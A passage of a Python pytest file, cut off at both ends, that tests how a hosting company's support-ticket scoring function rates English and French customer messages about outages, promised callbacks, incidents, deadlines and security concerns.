    ("We've had zero enquiries since Wednesday, and December is when couples book.", "zero enquiries since"),
    ("Orders from the shop have stopped coming through to the warehouse.", "orders from the shop have stopped"),
    ("Les commandes passées sur l'ancien site n'arrivent pas dans notre back-office.",
     "commandes passees sur l'ancien site n'arrivent pas"),
    ("Depuis vendredi, nos clients ne reçoivent plus le mail de confirmation quand ils commandent.",
     "clients ne recoivent plus le mail"),
    ("Our customers no longer receive their order emails since the move.", "customers no longer receive their order"),
    ("Bonjour, je vous ai écrit il y a 10 minutes, toujours aucun mail reçu et un client vient d'appeler.",
     "aucun mail reçu"),
    ("Since the DNS move our 15 addresses have received nothing since this morning.", "have received nothing since"),
    ("Les bons de commande ne nous parviennent pas depuis lundi.", "commande ne nous parviennent pas"),
    # ...or they themselves no longer receive their mail
    ("Je ne reçois plus mes mails depuis hier après-midi, ma fille a eu un message d'erreur.",
     "je ne recois plus mes mails"),
    ("Je n'ai effectivement rien reçu depuis vendredi 18h environ, alors que d'habitude j'ai une dizaine de mails.",
     "n'ai effectivement rien recu depuis"),
    ("I'm no longer getting any mails, on my phone or in webmail.", "i'm no longer getting any mails"),
    ("A guest says she wrote on Thursday. I've tested the contact form myself and nothing arrives.", "nothing arrives"),
])
def test_nothing_coming_any_more_reads_as_down_and_nothing_from_us_does_not(text, down):
    assert terms(heat([customer(at(0), text)], at(1)))["down"].startswith(f"said it is down: '{down}")
    for chase in ("Je ne reçois toujours rien de votre part.", "Je n'ai plus rien reçu de votre part depuis lundi.",
                  "Since Monday I haven't received any emails from you about my ticket.",
                  "Je ne reçois plus de mails de votre part depuis lundi.", "Nothing arrives from you, as usual."):
        assert "down" not in terms(heat([customer(at(0), chase)], at(1)))


@pytest.mark.parametrize("text", [
    "URGENT: I've forgotten my WordPress admin password and the reset email isn't arriving.",  # one message
    "Depuis lundi, je n'ai pas reçu de mail de votre part concernant ma facture.",
])
def test_one_missing_message_or_ours_is_not_an_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


def test_an_error_from_our_machines_is_an_outage_not_a_chase():
    text = ("Since about 06:00 we're seeing ~2% of requests to api.fleetpulse.io return 502 from your load "
            "balancer. Our app servers look healthy. Can you look at the LB pool?")
    assert terms(heat([customer(at(0), text)], at(1)))["down"] == "said it is down: '502'"
    assert "down" not in terms(heat([customer(at(0), "No email from your support since Monday.")], at(1)))


def test_a_log_of_a_node_that_failed_over_is_not_an_outage_they_report():
    text = ("Hello,\n\nWe see these in the HAProxy log on lb-01, roughly once a minute:\n\n"
            "Nov 24 08:15:09 lb-01 haproxy[2210]: [WARNING] SERVER BE_API/API-02 IS DOWN, REASON: LAYER4 TIMEOUT\n"
            "Nov 24 08:16:09 lb-01 haproxy[2210]: [WARNING] SERVER BE_API/API-02 IS DOWN, REASON: LAYER4 TIMEOUT\n\n"
            "Traffic fails over to api-01 and our users don't notice anything. Does api-02 have a hardware problem?")
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


def test_rien_d_urgent_about_a_routine_request_is_still_calm():
    h = heat([customer(at(0), "Rien d'urgent : pouvez-vous ajouter un utilisateur FTP pour notre graphiste ?")],
             at(3))
    assert "calm" in terms(h) and "risk" not in terms(h)


def test_the_outage_stops_counting_once_we_answer_and_counts_again_when_they_say_it_is_still_down():
    story = [customer(at(0), "Our website is down, customers get a 502."), us(at(1), "Hi, I restarted PHP-FPM.")]
    assert "down" not in terms(heat(story, at(2)))
    story.append(customer(at(3), "Still down here, same 502."))
    assert "down" in terms(heat(story, at(3, 10)))


def test_an_incident_lifts_a_customer_we_answered_only_until_they_acknowledge_it():
    story = [customer(at(0), "Hi, our site is really slow this morning."),
             us(at(0, 20), "Hi Luke, your site is on WEB-7, affected by the incident; I'll confirm here once "
                           "it is back to normal.")]
    asking = story + [customer(at(0, 40), "Any idea how long it will take?")]
    informed = story + [customer(at(0, 40), "Ok, thanks for the heads up.")]
    assert heat(asking, at(2), incident_open=True).score >= WEIGHTS.incident_floor
    told = heat(informed, at(2), incident_open=True)
    assert told.score < 20 and terms(told)["incident"] == "linked to an open incident"


def update(when, text):
    return Event(when, "message", "out", "status", text, "email", broadcast=True)


def test_an_acknowledgement_of_our_answer_after_an_incident_update_is_still_their_move():
    # Our engineer explained, an incident update went out, then they said they would wait: the update between
    # is no answer, and does not make their acknowledgement a question to us either.
    story = [customer(at(0), "Bonjour, nos devis vers des adresses outlook.fr arrivent avec des heures de retard."),
             us(at(0, 30), "Bonjour, c'est lié à l'incident en cours : vos 14 messages sont en file et repartiront "
                           "automatiquement, aucun n'est perdu."),
             update(at(2), "[Incident] Retards vers Microsoft : délais de 1 à 3 heures. Prochain point à 21h."),
             customer(at(2, 20), "Merci pour ces explications claires, on patiente.\nBonne soirée\nVirginie")]
    told = heat(story, at(5), incident_open=True)
    assert "waiting" not in terms(told) and told.score < 20


@pytest.mark.parametrize("text", [
    "[Incident] Statistics dashboard delayed. Graphs in the control panel show no data. Hosted services are not "
    "affected.",
    "[Incident] Le gestionnaire de fichiers du panel est lent. Vos sites, mails et FTP ne sont pas impactés.",
])
def test_an_incident_whose_update_says_their_sites_are_not_affected_does_not_lift_the_case(text):
    story = [customer(at(0), "Hi, could you add an SFTP user for our designer? Thanks."), update(at(1), text)]
    spared = heat(story, at(2), incident_open=True)
    assert "not lifted" in terms(spared)["incident"]
    assert spared.score == heat(story, at(2)).score < heat(story[:1], at(2), incident_open=True).score


@pytest.mark.parametrize("text", [
    # Some sites are down: what it spares (mail) is not the whole of what they host.
    "[Incident] Some websites hosted on uk-man-2 are unreachable since 14:20. Email services are not affected.",
    "[Mise à jour] 41 des 44 machines virtuelles fonctionnent normalement, les 3 restantes attendent une "
    "intervention.",
    "[Incident] Websites are not affected, but mail delivery is delayed.",
])
def test_an_incident_update_that_spares_only_part_of_what_they_host_still_lifts(text):
    story = [customer(at(0), "Hi, could you add an SFTP user for our designer? Thanks."), update(at(1), text)]
    assert terms(heat(story, at(2), incident_open=True))["incident"] == "linked to an open incident"


RESTORED = ["INC-4471, point de situation : la quasi-totalité des services concernés fonctionne de nouveau "
            "normalement. Quelques volumes terminent leur resynchronisation.",
            "[Incident] Storage on PAR2: service has been restored for all customers."]


@pytest.mark.parametrize("text", RESTORED)
def test_a_case_only_the_incident_wrote_on_is_not_lifted_once_its_update_says_the_services_are_back(text):
    # The case was opened by the broadcasts; their only answer is an out-of-office. Nobody is waiting.
    story = [update(at(0), "Un incident sur notre cluster de stockage PAR2 affecte vos services (vps-33817)."),
             customer(at(0, 1), "Réponse automatique : je suis en congés jusqu'au 23 août inclus."),
             update(at(2), text)]
    before = heat(story[:2], at(3), incident_open=True)
    after = heat(story, at(3), incident_open=True)
    assert terms(before)["incident"] == "linked to an open incident"
    assert "services are back" in terms(after)["incident"] and after.score < before.score


@pytest.mark.parametrize("text", RESTORED)
def test_a_customer_who_wrote_keeps_the_incident_lift_whatever_the_update_says(text):
    wrote_before = [customer(at(0), "Notre VPS ne répond plus depuis 23h, le site de réservation est coupé."),
                    update(at(1), text)]
    wrote_after = [update(at(0), text), customer(at(1), "Chez nous le VPS ne répond toujours pas.")]
    for story in (wrote_before, wrote_after):
        assert terms(heat(story, at(2), incident_open=True))["incident"] == "linked to an open incident"


def test_the_update_that_closed_a_reopened_incident_does_not_stop_the_lift():
    # The closing update said the services were back; the incident is open again, so they are not.
    closing = Event(at(1), "message", "out", "status", "The incident is resolved and services are back to normal.",
                    "email", broadcast=True, closing=True)
    story = [update(at(0), "[Incident] Storage on PAR2 is degraded."), closing]
    assert terms(heat(story, at(2), incident_open=True))["incident"] == "linked to an open incident"


def test_an_update_saying_the_services_are_back_for_some_only_still_lifts():
    story = [update(at(0), "[Incident] Storage on PAR2: service has been restored for most customers. A few "
                           "websites are still unreachable.")]
    assert terms(heat(story, at(1), incident_open=True))["incident"] == "linked to an open incident"


# --- a promise of ours --------------------------------------------------------------------------------

PROMISE = "Bonjour, je regarde la configuration SPF de votre domaine et je reviens vers vous."
#: The same, dated: written at 02:00 (UTC here), it holds until the end of that working day, 18:00.
DATED = "Bonjour, je regarde la configuration SPF de votre domaine et je reviens vers vous dans la journée."


def test_a_promise_to_come_back_stops_the_wait_for_four_hours_then_they_wait_on_us_again():
    story = [customer(at(0), "Bonjour, nos mails arrivent en indésirables chez Orange."), us(at(1), PROMISE)]
    kept = heat(story, at(4))
    assert "waiting" not in terms(kept) and "promised" not in terms(kept)
    broken = heat(story, at(31))
    assert broken.score > kept.score
    assert terms(broken)["waiting"] == "waiting 1 d 2 h"  # from the end of the 4-hour window
    assert terms(broken)["promised"] == "we promised to come back 1 d 6 h ago"
    fresh = heat([customer(at(28), "Bonjour, mes mails partent en spam chez mes clients.")], at(31))
    assert broken.score > fresh.score


@pytest.mark.parametrize("offer", [
    "Voici les lignes à placer en haut de votre .htaccess. Si vous préférez que je le fasse, dites-le-moi et je "
    "m'en occupe.",
    "Here are the lines for your .htaccess. If you'd rather I do it, just say so and I'll have a look.",
])
def test_an_offer_on_a_condition_is_an_answer_not_a_promise(offer):
    asked = customer(at(0), "Bonjour, je voudrais rediriger www vers le domaine sans www.")
    h = heat([asked, us(at(1), offer)], at(31))
    assert "promised" not in terms(h) and "waiting" not in terms(h)
    promised = heat([asked, us(at(1), "Je m'en occupe et je reviens vers vous.")], at(31))
    assert "promised" in terms(promised) and promised.score > h.score


def test_a_promise_to_come_back_on_an_outage_stops_the_wait_and_keeps_the_outage():
    down = customer(at(0), "Bonjour, depuis ce matin nos clients ne reçoivent plus aucun mail de confirmation de "
                           "commande, la boutique est en panne.")
    looking = heat([down, us(at(0, 15), "Bonjour, je regarde votre configuration et je reviens vers vous.")],
                   at(0, 45))
    assert "waiting" not in terms(looking) and "down" in terms(looking)
    fixed = heat([down, us(at(0, 15), "Bonjour, j'ai réactivé l'envoi des mails, les confirmations repartent.")],
                 at(0, 45))
    assert looking.score > fixed.score and "down" not in terms(fixed)
    # ...the chat's "looking at it now" too, and the mail's "looking into it now", "I'm checking … now".
    chat = [customer(at(0), "Hi, our members app can't check anyone in, the API gives 502.", kind="chat"),
            Event(at(0, 5), "chat", "out", "siobhan", "Hi Conor, looking at it now.", "chat")]
    assert "down" in terms(heat(chat, at(0, 45)))
    for reply in ("Hi Declan, looking into it now. Liam", "Hi Ruth, I'm checking the donation API now. Liam"):
        assert "down" in terms(heat([down, us(at(0, 15), reply)], at(0, 45)))


@pytest.mark.parametrize("reply", [
    # Handing it on to a colleague: nobody has done anything yet.
    "Hi Harriet, sorry for the wait - I can see your email, I'm passing it on to the engineer on shift right now. "
    "We'll be in touch shortly.",
    "Hi Rob, I'm passing this to our network team right now.",
    "Bonjour, je transmets votre demande à l'équipe réseau.",
    "Hi Paul, thanks, we're checking and will get back to you shortly. Thomas",
])
def test_a_reply_that_hands_the_outage_on_or_says_we_will_get_back_keeps_it_down(reply):
    down = customer(at(0), "Hi, my website just shows a blank white page since about 3.30. I've got weekend "
                           "workshops that people book and pay for on there.")
    holding = heat([down, us(at(0, 15), reply)], at(0, 45))
    assert "down" in terms(holding) and "waiting" not in terms(holding)


def test_an_acknowledgement_that_reports_more_harm_still_waits_on_us():
    """"Merci de nous tenir informés" closing a message that says forty applicants are stuck and calling them is
    a new report, not an "ok, thanks"; a mild word beside an acknowledgement still is one."""
    story = [customer(at(0), "Depuis ce matin, les candidats obtiennent une erreur à l'étape de paiement."),
             us(at(0, 50), "Bonjour, bien reçu, nous vérifions les connexions sortantes de votre serveur et revenons "
                           "vers vous. Karim")]
    report = heat([*story, customer(at(2, 35), "Bonjour, nous avons une quarantaine de candidats bloqués, certains "
                                               "nous appellent. Merci de nous tenir informés.")], at(2, 45))
    assert "waiting" in terms(report)
    ack = heat([*story, customer(at(2, 35), "D'accord, c'est bloqué de notre côté. Merci de nous tenir informés.")],
               at(2, 45))
    assert "waiting" not in terms(ack)  # our promise of 0:50 still stands


@pytest.mark.parametrize("text", [
    "Notre prestataire a remarqué ce midi des connexions SSH sur notre serveur depuis une IP que nous ne connaissons "
    "pas, et un fichier /var/www/html/wp-includes/.x.php que personne n'a mis là.",
    "There is a file called .x.php in wp-includes that nobody put there, and logins from an unknown IP.",
])
def test_a_login_or_a_file_nobody_on_their_side_knows_puts_them_at_risk(text):
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Mon webmail affiche « Compte temporairement verrouillé suite à trop de tentatives » depuis hier soir. Toutes "
    "mes factures sont dans cette boîte et je dois faire ma déclaration de TVA cette semaine. Comment je fais ?",
    "Hi, my mailbox account is locked after too many attempts and the reset link goes to that same mailbox.",
])
def test_an_account_locked_out_of_reach_is_down(text):
    assert "down" in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", ["Good morning, still suspended. We missed the whole of Valentine's weekend for "
                                  "vouchers. Please switch the site back on today.",
                                  "Bonjour, le site est toujours suspendu alors que le virement est parti jeudi."])
def test_a_suspension_still_there_after_our_answer_is_down(text):
    suspended = customer(at(0), 'Hello, our website now shows "This account has been suspended". We paid on Thursday.')
    answered = us(at(1), "Hi Eliza, I've forwarded your proof of payment to our billing team. Megan")
    assert "down" in terms(heat([suspended, answered, customer(at(30), text)], at(31)))


def test_a_vague_promise_on_what_is_down_holds_two_hours_not_four():
    down = customer(at(0), "Our Christmas appeal went out on the radio at 8pm and the donate page gives a 502.")
    story = [down, us(at(0, 15), "Hi Ruth, I'm checking the donation API now. Liam")]
    assert "waiting" not in terms(heat(story, at(2)))  # until 2:15
    late = heat(story, at(3))
    assert terms(late)["waiting"] == "waiting 45 min" and "down" in terms(late)
    assert late.score > heat(story, at(2)).score
    # ...a customer writing after it ran out has waited on us since it did...
    again = story + [customer(at(3), "Any news? People still can't give.")]
    assert terms(heat(again, at(3, 10)))["waiting"] == "waiting 55 min"
    # ...and what is not broken keeps the four hours.
    chore = [customer(at(0), "Could you add an FTP account for our designer?"), us(at(0, 15), "Hi, I'll look into it.")]
    assert "waiting" not in terms(heat(chore, at(3)))
    assert "waiting" in terms(heat(chore, at(4, 30)))


def test_a_dated_promise_holds_until_the_moment_it_names_then_they_wait_on_us_again():
    story = [customer(at(0), "Bonjour, nos mails arrivent en indésirables chez Orange."), us(at(1), DATED)]
    assert "waiting" not in terms(heat(story, at(12)))  # 13:00: past the 4-hour window, before 18:00
    broken = heat(story, at(31))  # the next day, 08:00
    assert terms(broken)["waiting"] == "waiting 14 h"  # since 18:00
    assert terms(broken)["promised"] == "we promised to come back by a time now 14 h past (promise made 1 d 6 h ago)"


def test_a_moment_we_named_and_missed_weighs_on_top_of_the_wait_until_we_write_again():
    ask = customer(at(0), "Hi, outbound mail is stuck in the queue since 9, clients are waiting.")
    callback = [ask, us(at(0, 15), "I'm checking the queue now and will call you back within 30 minutes.")]
    vague = [ask, us(at(0, 15), "I'll look into it and get back to you.")]
    missed = heat(callback, at(5))  # the vague promise's window (2 h: their mail is down) ran out at 2:15 too
    late = heat(vague, at(5))
    assert terms(missed)["waiting"] == "waiting 4 h 15 min" and terms(late)["waiting"] == "waiting 2 h 45 min"
    assert [t.points for t in missed.terms if t.name == "promised"] == [WEIGHTS.promise_missed_points]
    assert [t.points for t in late.terms if t.name == "promised"] == [0.0]  # only the wait counts for a vague one
    # Asking where we are keeps the broken promise in the heat (the property tests: it never lowers it)...
    chased = heat([*callback, customer(at(4), "Any news? Still nothing is going out.")], at(5))
    assert terms(chased)["promised"] == "we promised to come back by a time now 4 h 15 min past (promise made " \
                                        "4 h 45 min ago)"
    assert chased.score >= missed.score
    # ...until we write again.
    answered = heat([*callback, customer(at(4), "Any news?"), us(at(4, 30), "Sorry: the relay is fixed, "
                                                                          "your queue is flushing now.")], at(5))
    assert "promised" not in terms(answered)


@pytest.mark.parametrize("reply, holds, lapsed", [
    ("Je vous appelle mercredi matin à 9h30 avec les recommandations.", 30, 33),  # Tue 02:00 -> Wed 09:30
    ("I'll confirm by 15:00 today.", 13, 15),
    ("Hi, I'll look into it.", 4, 6),  # vague: the 4-hour window
    # What we will do by when, beside what was done: a promise all the same (02:00 -> tomorrow 08:00).
    ("J'ai mis en place une surveillance pour cette nuit. Je vous envoie demain à 8h un bilan.", 30, 32),
    ("I'm checking the queue now and will call you back within 30 minutes.", 1.25, 2),
    ("I'll restore Sunday night's backup tonight, and confirm by 8am tomorrow.", 30, 32),
    ("Nous préparons une solution et revenons vers vous d'ici une heure.", 1.5, 2.5),
    ("We'll come back to you once the registry has answered.", 4, 6),
    # A colleague's call, promised in their name by the shift leaving (02:00 -> 09:00).
    ("La restauration est en cours. Un collègue de l'équipe France vous contactera avant 9h pour vérifier.", 7.5, 9),
    ("The restore is running. A colleague from the Europe team will contact you before 9am to check it.", 7.5, 9),
])
def test_how_long_a_promise_holds_depends_on_what_it_says(reply, holds, lapsed):
    story = [customer(at(0), "Our staging site answers 403 since Friday."), us(at(1), reply)]
    assert "waiting" not in terms(heat(story, at(holds)))
    assert "waiting" in terms(heat(story, at(lapsed)))


@pytest.mark.parametrize("summary", [
    "Appelé Mme Blanc. Le script échoue depuis mercredi 14h, probablement la mise à jour de mercredi. Lui ai "
    "promis un rappel avant 18h avec un diagnostic.",
    "Called Mr Hale. The sync has failed since Wednesday. Promised him a call back before 6pm with a fix.",
    # ...in the third person: "told him I'd deploy it and call him back".
    "Called Henry back. New key received through our secure link. Told him I'd deploy it and call him back "
    "before 6pm to test a payment together.",
])
def test_a_promise_reported_in_a_call_summary_runs_out_at_the_moment_it_names(summary):
    """Our call summary says what was promised on the phone: past that moment (02:00 + 16 h), they wait on us."""
    call = Event(at(1), "call", "out", "nadia", summary, "phone")
    story = [customer(at(0), "Les stocks du site ne se mettent plus à jour depuis mercredi."), call]
    assert "waiting" not in terms(heat(story, at(15)))
    late = terms(heat(story, at(20)))
    assert late["waiting"].startswith("waiting 3 h") and late["promised"].startswith("we promised to come back")


def test_a_reply_of_ours_that_says_i_ll_look_and_is_then_forgotten_counts_the_wait_again():
    # The handover's "je regarde": once its window has run out, the customer is waiting on nobody.
    forgotten = [customer(at(0), "Bonjour, le site de préproduction répond 403 depuis vendredi."),
                 us(at(1), "Bonjour, je regarde.")]
    answered = [customer(at(0), "Bonjour, le site de préproduction répond 403 depuis vendredi."),
                us(at(1), "Bonjour, j'ai mis à jour la liste d'adresses autorisées, c'est réglé.")]
    assert heat(forgotten, at(26)).score > heat(answered, at(26)).score
    assert terms(heat(forgotten, at(26)))["waiting"] == "waiting 21 h"


@pytest.mark.parametrize("reply", [
    "Bonjour Monsieur Lemaire,\n\nBien noté. Je prépare l'archive et vous envoie le lien de téléchargement.",
    "Hi Sam, noted: I'll send you the export by tonight.",
])
def test_a_reply_that_only_announces_the_work_is_a_promise_that_runs_out(reply):
    story = [customer(at(0), "Pouvez-vous nous fournir une archive complète du site et des boîtes mail ?"),
             us(at(1), reply)]
    assert "waiting" not in terms(heat(story, at(3)))
    late = heat(story, at(3 * 24))
    assert "waiting" in terms(late) and terms(late)["promised"].startswith("we promised to come back")


def test_their_ok_after_our_promise_keeps_it_a_promise_and_a_reply_saying_it_is_done_is_not_one():
    story = [customer(at(0), "Bonjour, nos mails arrivent en indésirables."), us(at(1), PROMISE),
             customer(at(1, 10), "D'accord, merci.")]
    assert "promised" in terms(heat(story, at(10)))
    done = [customer(at(0), "Bonjour, nos mails arrivent en indésirables."),
            us(at(1), "Bonjour, j'ai corrigé le SPF ; je reviens vers vous si les rapports montrent encore un souci.")]
    assert "waiting" not in terms(heat(done, at(30)))



@pytest.mark.parametrize("text", ["Bon, on a mis la boutique en pause, on attend votre retour. Dommage pour ce soir.",
                                  "OK, we'll wait for your update then."])
def test_waiting_for_our_answer_is_no_acknowledgement_unless_a_promise_of_ours_stands(text):
    broken = customer(at(0), "Bonsoir, les clients ne peuvent plus ajouter au panier : Disk quota exceeded.")
    # (Handing it on, "je transmets à l'équipe concernée", is a promise of ours: a diagnosis is an answer.)
    answered = [broken, us(at(0, 10), "Bonsoir, c'est bien le quota de l'hébergement qui est plein. Aurélie"),
                customer(at(2), text)]
    h = heat(answered, at(4))
    assert "waiting" in terms(h) and "cooling" not in terms(h)
    # (The cart is down: our vague promise holds for the outage's window, two hours.)
    promised = [broken, us(at(0, 10), PROMISE), customer(at(1, 30), text)]
    assert "waiting" not in terms(heat(promised, at(2))) and "cooling" in terms(heat(promised, at(2)))
    assert "promised" in terms(heat(promised, at(10)))  # ...until it runs out

@pytest.mark.parametrize("hours", [2, 4, 5, 30])
def test_the_clock_tick_gives_a_promise_the_same_heat_as_the_explanation(hours):
    story = [customer(at(0), "Bonjour, nos mails arrivent en indésirables."), us(at(1), PROMISE)]
    stats = fold_events(story)
    explained = heat(story, at(hours))
    ticked = heat_value(steady_points(stats), wait_t=stats.wait_t, out_t=stats.out_t, status="open",
                        opened_t=story[0].at.timestamp(), tier="standard", now_t=at(hours).timestamp(),
                        mode=mode_of(stats), promise_t=stats.promise_t, down=bool(stats.down), harm=bool(stats.harm),
                        due_t=stats.due_t, troubled=is_troubled(stats), breaks=stats.due_breaks)
    assert ticked == (explained.score, explained.rank)


# --- the customer's own deadline ------------------------------------------------------------------

REQUEST = "Bonjour, pouvez-vous installer le certificat de boutique-martin.fr ?"
OPENS = " Notre boutique ouvre demain à 8h, il nous le faut avant."  # written at 01:00 on Tuesday 24


def test_a_customer_s_near_deadline_outranks_the_same_request_without_one_and_says_when():
    with_deadline = heat([customer(at(0), REQUEST + OPENS)], at(2))
    without = heat([customer(at(0), REQUEST)], at(2))
    assert with_deadline.score > without.score
    assert terms(with_deadline)["deadline"] == "their deadline Wed 25 Nov 08:00 (their time) in 1 d 5 h"
    assert "deadline" not in terms(without)


def test_a_deadline_hours_away_outranks_a_chore_that_has_waited_for_days():
    # At 02:00 the engineer picks up the shop that opens at 08:00 before the FTP account asked three days ago.
    chore = heat([customer(at(-48), "Bonjour, pouvez-vous créer un compte FTP pour notre graphiste ? Merci.")], at(26))
    launch = heat([customer(at(25), "Bonjour, pouvez-vous installer le certificat de boutique-martin.fr ? "
                                    "Notre boutique ouvre ce matin à 8h, il nous le faut avant.")], at(26))
    assert terms(launch)["deadline"] == "their deadline Wed 25 Nov 08:00 (their time) in 5 h"
    assert launch.score > chore.score


def test_what_a_note_says_we_owe_by_a_time_counts_like_their_deadline_until_we_write_to_them():
    # 01:00 UTC, the customer in UTC here: the leaving engineer promised a call back before 09:00.
    asked = customer(at(0), "Bonjour, pouvez-vous restaurer le dossier Etat civil supprimé hier ?")
    story = [asked, us(at(0, 30), "Bonjour, la restauration est lancée."),
             note(at(1), "Restauration en cours. J'ai promis au client un rappel avant 9h pour vérifier avec elle.")]
    h = heat(story, at(7))
    assert terms(h)["deadline"] == "a note says it is due Tue 24 Nov 09:00 (their time) in 1 h"
    assert h.score > heat(story[:2], at(7)).score  # the same case without the note
    called = heat([*story, us(at(7, 30), "Bonjour, le dossier est restauré, tout y est.")], at(8))
    assert "deadline" not in terms(called)
    # A note telling what happened owes nothing.
    told = heat([*story[:2], note(at(1), "Restauration lancée à 02h10, 70 % à 05h.")], at(7))
    assert "deadline" not in terms(told) and "waiting" not in terms(told)


def test_a_moment_a_note_named_and_the_customer_says_too_is_theirs_after_our_reply():
    # Our note names when their certificates expire; they say it too; our "working on it" does not settle it.
    story = [note(at(0), "Renouvellement en échec (rate limit). Les certificats expirent le 25/11 à 23h59."),
             customer(at(1), "Nos certificats expirent le 25/11 à 23h59, c'est notre boutique. Quel est le plan ?"),
             us(at(2), "Bonjour, je corrige la redirection puis je relance le renouvellement.")]
    again = heat([*story, customer(at(20), "Le renouvellement a-t-il marché ? Qui s'en occupe maintenant ?")], at(21))
    assert terms(again)["deadline"] == "their deadline Wed 25 Nov 23:59 (their time) in 1 d 2 h"
    # Named by the note alone, our reply settles it.
    alone = heat([story[0], customer(at(1), "Quel est le plan ?"), story[2],
                  customer(at(20), "Le renouvellement a-t-il marché ?")], at(21))
    assert "deadline" not in terms(alone)


def test_a_deadline_counts_more_as_it_nears_and_fully_once_passed():
    story = [customer(at(0), REQUEST + OPENS)]
    points = [next(t.points for t in heat(story, at(hours)).terms if t.name == "deadline") for hours in (2, 20, 31)]
    assert points[0] < points[1] < points[2]
    assert terms(heat(story, at(40)))["deadline"] == "their deadline Wed 25 Nov 08:00 (their time) passed"


def test_a_deadline_stays_through_our_answers_until_we_answer_after_it():
    asked = customer(at(0), REQUEST + OPENS)
    before = [asked, us(at(20), "Bonjour, je prépare le certificat, il sera en place ce soir.")]
    assert "deadline" in terms(heat(before, at(40)))  # we answered, the launch still came and went
    after = [asked, us(at(33), "Bonjour, le certificat est en place depuis 9h.")]
    assert "deadline" not in terms(heat(after, at(40)))


@pytest.mark.parametrize("text", [
    "Bonjour, pouvez-vous renouveler le certificat ? Il expire le 15/12.",  # three weeks ahead: not yet
    "Bonjour, le site est tombé ce matin à 9h30.",  # the story, not a deadline
])
def test_a_far_deadline_or_a_time_of_the_story_counts_nothing(text):
    assert "deadline" not in terms(heat([customer(at(0), text)], at(2)))


def test_a_closing_message_ends_the_deadline():
    story = [customer(at(0), REQUEST + OPENS), us(at(3)),
             customer(at(4), "Merci, tout fonctionne, vous pouvez fermer le ticket.")]
    assert "deadline" not in terms(heat(story, at(40)))


@pytest.mark.parametrize("hours", [2, 20, 31, 40])
def test_the_clock_tick_gives_a_deadline_the_same_heat_as_the_explanation(hours):
    story = [customer(at(0), REQUEST + OPENS)]
    stats = fold_events(story)
    explained = heat(story, at(hours))
    ticked = heat_value(steady_points(stats), wait_t=stats.wait_t, out_t=stats.out_t, status="open",
                        opened_t=story[0].at.timestamp(), tier="standard", now_t=at(hours).timestamp(),
                        mode=mode_of(stats), promise_t=stats.promise_t, down=bool(stats.down), harm=bool(stats.harm),
                        due_t=stats.due_t, troubled=is_troubled(stats), breaks=stats.due_breaks)
    assert ticked == (explained.score, explained.rank)


# --- what the customer says they already put right, what they say is at risk -----------------------

@pytest.mark.parametrize("heads_up, fixed", [
    ("Heads-up: our 11:00 deploy broke the API (500s on /v2/orders). You'll probably see alerts. We're rolling "
     "back ourselves.", "Rolled back. Ignore the alerts. Sorry for the noise!"),
    ("Bonjour, notre mise en production de 11h a cassé l'API, vous allez sûrement voir des alertes. On revient "
     "en arrière nous-mêmes.", "C'est fait, ignorez les alertes, tout est au vert."),
])
def test_a_customer_who_put_it_right_themselves_and_says_to_ignore_the_alerts_is_probably_done(heads_up, fixed):
    alone = heat([customer(at(0), heads_up)], at(1))
    story = heat([customer(at(0), heads_up), customer(at(0, 12), fixed)], at(1))
    assert story.probably_done and not alone.probably_done
    assert story.score < alone.score


@pytest.mark.parametrize("text", [
    # someone deletes their files right now
    "Bonjour, nous avons licencié notre graphiste la semaine dernière et depuis hier soir des pages disparaissent "
    "et des fichiers sont supprimés sur l'espace FTP. Je pense qu'il a encore ses accès.",
    "Hi, we let our designer go last week and since last night files are being deleted over FTP. I think he "
    "still has his access.",
    # their customers' data downloadable by anyone
    "Bonjour, un client m'a signalé qu'en tapant notre adresse suivie de /backup/ on voit une liste de fichiers, "
    "dont un export de la base : les adresses et historiques d'achat d'environ 3 000 clients.",
    "Hi, anyone typing our address followed by /exports/ gets a file with the purchase history of our 2,000 "
    "customers.",
    # their domain serves someone else's site
    "Hello, since this evening our domain shows the website of a dental clinic in Lyon. Our own site is gone.",
    "Bonjour, quand on va sur notre site sans le www on tombe sur le site d'un garage automobile ?? Avec le www "
    "ça marche.",
    # paid for, never recorded
    "Bonjour, le client voit « Votre commande a bien été prise en compte » mais la commande n'apparaît pas dans "
    "le back-office. Le paiement passe : 3 débits Stripe sans commande en face.",
])
def test_files_deleted_by_someone_else_customer_data_downloadable_or_their_domain_hijacked_is_a_risk(text):
    h = heat([customer(at(0), text)], at(1))
    assert "risk" in terms(h)
    assert h.score > heat([customer(at(0), "Bonjour, pouvez-vous créer un accès FTP pour notre graphiste ?")],
                          at(1)).score


@pytest.mark.parametrize("last, at_risk", [
    ("[2026-11-24 03:00:19] Backup FAILED", True),
    ("[2026-11-24 03:00:19] Backup completed in 17 s", False),
])
def test_where_a_pasted_log_last_leaves_their_backups_is_read_for_risk(last, at_risk):
    text = ("Hello,\n\nQuick one. We get a backup report from the VPS every night. Pasting the last one:\n\n"
            "[2026-11-24 03:00:02] Starting backup job 'nightly-full'\n"
            "[2026-11-24 03:00:04] Dumping database 'bookings'...\n"
            f"{last}\n\n"
            "The bookings database is the only record we have of our reservations for next season.\n\nDave")
    h = heat([customer(at(0), text)], at(1))
    assert ("risk" in terms(h)) is at_risk
    assert "SHOUTING" not in terms(h).get("words", "")  # the log's capitals are not theirs


def test_a_site_whose_visitors_get_a_certificate_alert_is_down():
    h = heat([customer(at(0), "Bonjour, le site boulangerie-roche.fr affiche une alerte de certificat expiré depuis "
                              "ce matin. Notre client reçoit ses commandes par le site.")], at(1))
    assert terms(h)["down"] == "said it is down: 'alerte de certificat', 'certificat expiré depuis'"


@pytest.mark.parametrize("text, term", [
    ("Hi,\n\nDuring our Monday checks we found a key in /root/.ssh/authorized_keys on app-02 that none of us "
     "recognise. Nobody on our side was working then. Is this one of yours?", "risk"),
    ("Bonjour, il y a sur notre serveur un compte « support2 » que nous ne reconnaissons pas. Est-ce vous ?",
     "risk"),
    ("Hi, our sale mailing stopped a third of the way:\n\n"
     "  451 4.7.1 <newsletter@greenleafgifts.co.uk>: Sender rate limit exceeded (10000 per 24h)\n\n"
     "Can you lift the limit for today?", "down"),
    ("Bonjour, notre campagne s'est arrêtée en route : « limite d'envoi atteinte ». Pouvez-vous la relever ?",
     "down"),
    ("Hi team, since your network maintenance about 5% of requests to our backend fail with connection resets. "
     "Retries hide it for now.", "slow"),
])
